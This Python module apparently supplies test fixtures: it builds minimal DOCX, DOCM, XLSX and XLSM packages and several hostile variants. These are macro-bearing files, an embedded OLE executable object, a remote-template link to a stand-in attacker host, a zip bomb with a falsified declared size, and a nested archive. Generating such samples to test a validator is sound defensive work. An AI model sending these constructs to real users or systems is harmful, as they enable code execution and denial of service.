"""Office Open XML packages (DOCX, DOCM, XLSX, XLSM) and hostile zips, built in code for tests.

``docx_bytes()`` and ``xlsx_bytes()`` are real minimal packages (the parts Word and Excel need:
content types, package relationships, the main part; for XLSX also the workbook relationships
and one worksheet) and open in Word, Excel and LibreOffice. Macro variants add a real
``vbaProject.bin`` compound file (see ``cfb.py``). The zip bomb is written with a hand-made zip
writer: its deflate stream is one compressed megabyte of zeros repeated (a full flush resets the
compressor, so every block compresses to the same bytes), which makes a gigabyte entry in about a
megabyte of output without compressing a gigabyte.
"""

from __future__ import annotations

import functools
import io
import struct
import zipfile
import zlib
from collections.abc import Iterable
from xml.sax.saxutils import escape

from .cfb import ole_package_object, vba_project_bin

CONTENT_TYPES_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATIONSHIPS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_DOCUMENT_REL = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
)
CORE_PROPERTIES_REL = (
    "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties"
)
VBA_PROJECT_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
WORKSHEET_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"
OLE_OBJECT_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject"
TEMPLATE_REL = (
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
)
SETTINGS_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings"

WORD_TYPES = {
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
    "docm": "application/vnd.ms-word.document.macroEnabled.main+xml",
}
EXCEL_TYPES = {
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
    "xlsm": "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
}
WORKSHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
CORE_TYPE = "application/vnd.openxmlformats-package.core-properties+xml"
SETTINGS_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"
VBA_TYPE = "application/vnd.ms-office.vbaProject"
OLE_OBJECT_TYPE = "application/vnd.openxmlformats-officedocument.oleObject"
XML_DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def _content_types(overrides: dict[str, str], defaults: dict[str, str] | None = None) -> str:
    all_defaults = {
        "rels": "application/vnd.openxmlformats-package.relationships+xml",
        "xml": "application/xml",
        **(defaults or {}),
    }
    return (
        XML_DECLARATION
        + f'<Types xmlns="{CONTENT_TYPES_NS}">'
        + "".join(
            f'<Default Extension="{ext}" ContentType="{ctype}"/>'
            for ext, ctype in all_defaults.items()
        )
        + "".join(
            f'<Override PartName="{part}" ContentType="{ctype}"/>'
            for part, ctype in overrides.items()
        )
        + "</Types>"
    )


def _relationships(relationships: Iterable[tuple[str, ...]]) -> str:
    """Relationship parts from (type, target) or (type, target, "External") tuples."""
    items = []
    for number, (rel_type, target, *mode) in enumerate(relationships, start=1):
        target_mode = f' TargetMode="{mode[0]}"' if mode else ""
        items.append(
            f'<Relationship Id="rId{number}" Type="{rel_type}" Target="{escape(target)}"'
            f"{target_mode}/>"
        )
    return (
        XML_DECLARATION
        + f'<Relationships xmlns="{RELATIONSHIPS_NS}">'
        + "".join(items)
        + "</Relationships>"
    )


def _core_properties(title: str) -> str:
    return (
        XML_DECLARATION
        + '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/'
        'core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<dc:title>{escape(title)}</dc:title><dc:creator>Сот кабинеті</dc:creator>"
        "</cp:coreProperties>"
    )


def _zip(parts: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data.encode("utf-8") if isinstance(data, str) else data)
    return buffer.getvalue()


def _word_parts(
    text: str,
    *,
    kind: str = "docx",
    macro: bool = False,
    embedded_object: bool = False,
    external_template: bool = False,
) -> dict[str, bytes | str]:
    overrides = {"/word/document.xml": WORD_TYPES[kind], "/docProps/core.xml": CORE_TYPE}
    defaults: dict[str, str] = {}
    document_rels: list[tuple[str, ...]] = []
    parts: dict[str, bytes | str] = {}
    if macro:
        defaults["bin"] = VBA_TYPE
        document_rels.append((VBA_PROJECT_REL, "vbaProject.bin"))
        parts["word/vbaProject.bin"] = vba_project_bin()
    object_xml = ""
    if embedded_object:
        overrides["/word/embeddings/oleObject1.bin"] = OLE_OBJECT_TYPE
        document_rels.append((OLE_OBJECT_REL, "embeddings/oleObject1.bin"))
        parts["word/embeddings/oleObject1.bin"] = ole_package_object()
        object_xml = (
            '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"'
            f' Type="Embed" ProgID="Package" r:id="rId{len(document_rels)}"/>'
            "</w:object></w:r></w:p>"
        )
    if external_template:
        overrides["/word/settings.xml"] = SETTINGS_TYPE
        document_rels.append((SETTINGS_REL, "settings.xml"))
        parts["word/settings.xml"] = (
            XML_DECLARATION
            + '<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
            ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<w:attachedTemplate r:id="rId1"/></w:settings>'
        )
        parts["word/_rels/settings.xml.rels"] = _relationships(
            [(TEMPLATE_REL, "http://attacker.example/template.dotm", "External")]
        )
    paragraphs = "".join(
        f'<w:p><w:r><w:t xml:space="preserve">{escape(line)}</w:t></w:r></w:p>'
        for line in text.splitlines() or [""]
    )
    parts["[Content_Types].xml"] = _content_types(overrides, defaults)
    parts["_rels/.rels"] = _relationships(
        [(OFFICE_DOCUMENT_REL, "word/document.xml"), (CORE_PROPERTIES_REL, "docProps/core.xml")]
    )
    parts["docProps/core.xml"] = _core_properties(text.splitlines()[0] if text else "")
    parts["word/document.xml"] = (
        XML_DECLARATION
        + '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
        ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        f"<w:body>{paragraphs}{object_xml}<w:sectPr/></w:body></w:document>"
    )
    if document_rels:
        parts["word/_rels/document.xml.rels"] = _relationships(document_rels)
    # Order as Office writes it: [Content_Types].xml first.
    return {"[Content_Types].xml": parts.pop("[Content_Types].xml"), **parts}


def docx_bytes(
    macro: bool = False,
    *,
    text: str = "Талап қою арызы\nАлматы қаласы, ₸ 12 500",
    embedded_object: bool = False,
    external_template: bool = False,
) -> bytes:
    """A real minimal DOCX. ``macro=True`` smuggles a ``vbaProject.bin`` into a .docx package.

    ``embedded_object`` embeds an OLE "Package" object (an executable); ``external_template``
    points the document at a remote template (template injection). All three are active content.
    """
    return _zip(
        _word_parts(
            text, macro=macro, embedded_object=embedded_object, external_template=external_template
        )
    )


def docm_bytes() -> bytes:
    """A macro-enabled Word document as Word saves it (docm main part type, vbaProject.bin)."""
    return _zip(_word_parts("Макросы бар құжат", kind="docm", macro=True))


def xlsx_bytes(macro: bool = False, *, rows: Iterable[Iterable[object]] | None = None) -> bytes:
    """A real minimal XLSX with one worksheet. ``macro=True`` gives an XLSM (macro-enabled)."""
    rows = rows if rows is not None else [["Талапкер", "Сома, ₸"], ["Әсел Қасымова", 12500]]
    kind = "xlsm" if macro else "xlsx"
    overrides = {"/xl/workbook.xml": EXCEL_TYPES[kind], "/xl/worksheets/sheet1.xml": WORKSHEET_TYPE}
    defaults: dict[str, str] = {}
    workbook_rels: list[tuple[str, ...]] = [(WORKSHEET_REL, "worksheets/sheet1.xml")]
    parts: dict[str, bytes | str] = {}
    if macro:
        defaults["bin"] = VBA_TYPE
        workbook_rels.append((VBA_PROJECT_REL, "vbaProject.bin"))
        parts["xl/vbaProject.bin"] = vba_project_bin()
    sheet_rows = []
    for row_number, row in enumerate(rows, start=1):
        cells = []
        for column, value in enumerate(row):
            reference = f"{chr(ord('A') + column)}{row_number}"
            if isinstance(value, int | float):
                cells.append(f'<c r="{reference}"><v>{value}</v></c>')
            else:
                cells.append(
                    f'<c r="{reference}" t="inlineStr"><is><t>{escape(str(value))}</t></is></c>'
                )
        sheet_rows.append(f'<row r="{row_number}">{"".join(cells)}</row>')
    main_ns = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    relationship_ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return _zip(
        {
            "[Content_Types].xml": _content_types(overrides, defaults),
            "_rels/.rels": _relationships([(OFFICE_DOCUMENT_REL, "xl/workbook.xml")]),
            "xl/workbook.xml": XML_DECLARATION
            + f'<workbook xmlns="{main_ns}" xmlns:r="{relationship_ns}">'
            '<sheets><sheet name="Парақ1" sheetId="1" r:id="rId1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": _relationships(workbook_rels),
            "xl/worksheets/sheet1.xml": XML_DECLARATION
            + f'<worksheet xmlns="{main_ns}"><sheetData>{"".join(sheet_rows)}</sheetData>'
            "</worksheet>",
            **parts,
        }
    )


def xlsm_bytes() -> bytes:
    """A macro-enabled Excel workbook (xlsm main part type, vbaProject.bin)."""
    return xlsx_bytes(macro=True)


def raw_zip(entries: Iterable[tuple[str, int, int, bytes, int]]) -> bytes:
    """A zip from pre-compressed entries: (name, method, crc32, compressed data, declared size).

    The declared (uncompressed) size is written as given, true or not: that is the point.
    """
    out = bytearray()
    central = bytearray()
    count = 0
    for name, method, crc, data, declared_size in entries:
        encoded = name.encode("utf-8")
        offset = len(out)
        out += struct.pack(
            "<4s5H3L2H", b"PK\x03\x04", 20, 0x0800, method, 0, 0x21, crc, len(data),
            declared_size, len(encoded), 0,
        )  # fmt: skip
        out += encoded + data
        central += struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0x0800, method, 0, 0x21, crc, len(data),
            declared_size, len(encoded), 0, 0, 0, 0, 0, offset,
        )  # fmt: skip
        central += encoded
        count += 1
    directory_offset = len(out)
    out += central
    out += struct.pack(
        "<4s4H2LH", b"PK\x05\x06", 0, 0, count, count, len(central), directory_offset, 0
    )
    return bytes(out)


def _deflated(data: bytes) -> tuple[int, bytes]:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return zlib.crc32(data), compressor.compress(data) + compressor.flush()


def _stored_parts_as_entries(parts: dict[str, bytes | str]):
    for name, value in parts.items():
        data = value.encode("utf-8") if isinstance(value, str) else value
        crc, compressed = _deflated(data)
        yield name, zipfile.ZIP_DEFLATED, crc, compressed, len(data)


@functools.lru_cache(maxsize=8)
def _zeros_deflated(megabytes: int) -> tuple[int, bytes]:
    block = bytes(1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    compressed_block = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    stream = compressed_block * megabytes + compressor.flush()
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(block, crc)
    return crc, stream


def zip_bomb_docx(inflated_megabytes: int = 1024, *, lying: bool = False) -> bytes:
    """A docx-shaped zip (valid content types, rels, document) plus one huge entry of zeros.

    ``inflated_megabytes`` MiB inflate from about a thousandth of that. With ``lying=True`` the
    zip declares the entry as 1 MiB (a ratio that looks harmless); only inflating tells.
    """
    crc, stream = _zeros_deflated(inflated_megabytes)
    declared = (1 << 20) if lying else inflated_megabytes << 20
    entries = list(_stored_parts_as_entries(_word_parts("Zip bomb")))
    entries.append(("word/media/image1.png", zipfile.ZIP_DEFLATED, crc, stream, declared))
    return raw_zip(entries)


def nested_zip() -> bytes:
    """A real DOCX that carries another zip archive inside (``word/embeddings/package.zip``)."""
    inner = _zip({"readme.txt": "inner archive", "inner.docx": docx_bytes()})
    parts = _word_parts("Nested archive")
    parts["word/embeddings/package.zip"] = inner
    return _zip(parts)


def plain_zip() -> bytes:
    """A valid zip archive that is no Office document."""
    return _zip({"readme.txt": "just a zip", "data.csv": "a,b\n1,2\n"})
